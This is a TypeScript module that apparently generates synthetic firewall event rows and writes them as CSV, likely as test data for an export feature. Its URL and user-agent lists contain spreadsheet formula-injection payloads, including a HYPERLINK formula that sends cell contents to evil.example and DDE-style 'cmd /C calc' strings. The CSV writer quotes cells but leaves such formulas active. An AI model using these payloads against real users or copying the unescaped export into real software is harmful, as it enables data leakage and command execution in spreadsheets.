import { createRandom } from './dice.ts';

/** One shield event; the columns of the generated file, in this order. The service's own columns are not known. */
export interface EventRow {
  timestamp: number;
  action: string;
  feature: string;
  ruleId: string;
  ruleName: string;
  ip: string;
  country: string;
  asn: string;
  url: string;
  ua: string;
  ja4: string;
}

const columns = [
  'timestamp',
  'action',
  'feature',
  'ruleId',
  'ruleName',
  'ip',
  'country',
  'asn',
  'url',
  'ua',
  'ja4',
] as const satisfies readonly (keyof EventRow)[];

const urls = [
  '/wp-login.php',
  '/checkout/pay?step=2',
  '/search?q=shoes,red',
  '/?q="quoted"',
  '=HYPERLINK("https://evil.example/?x="&A1,"Invoice")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
] as const;
const agents = [
  'Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0',
  'sqlmap/1.9',
  'two\r\nlines, and a "quote"',
  "+1+cmd|' /C calc'!A0",
  '-2+3+HYPERLINK("https://evil.example")',
  '\t=1+1',
  'Größe 東京 🚀',
] as const;
const rules = [
  ['941100', 'XSS via libinjection', 'WAF'],
  ['942100', 'SQL injection via libinjection', 'WAF'],
  ['rl-7', 'Login attempts', 'Rate Limiting'],
  ['bot-2', 'Headless browser', 'Bot Detection'],
  ['acl-1', 'Blocked networks', 'Access Lists'],
] as const;

/** `count` rows of a shield zone, spread evenly over [from, to] (ms); the same for the same zone and window. */
export function generateEventRows(shieldZoneId: number, count: number, from: number, to: number): EventRow[] {
  const dice = createRandom(shieldZoneId);
  return Array.from({ length: count }, (_, index) => {
    const [ruleId, ruleName, feature] = dice.pick(rules);
    return {
      timestamp: from + Math.floor(((to - from) * (index + 0.5)) / count),
      action: dice.pick(['blocked', 'challenged', 'logged']),
      feature,
      ruleId,
      ruleName,
      ip: dice.chance(0.9)
        ? `203.0.113.${dice.between(1, 254)}`
        : `2001:db8::${dice.between(1, 9999).toString(16)}`,
      country: dice.pick(['DE', 'FR', 'US', 'BR', 'CN', 'ZA']),
      asn: String(dice.pick([64_496, 64_511, 65_550])),
      url: dice.pick(urls),
      ua: dice.pick(agents),
      ja4: `t13d1516h2_${dice.between(0, 0xffffff).toString(16).padStart(12, '0')}_e5627efa2ab1`,
    };
  });
}

/** A cell by RFC 4180: quoted where it holds a comma, a quote or a line break; otherwise exactly as it is. */
const cell = (text: string): string => (/[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text);

export const csvLine = (row: EventRow): string =>
  `${columns.map((column) => cell(column === 'timestamp' ? new Date(row.timestamp).toISOString() : row[column])).join(',')}\r\n`;

export const csvHeader = `${columns.join(',')}\r\n`;
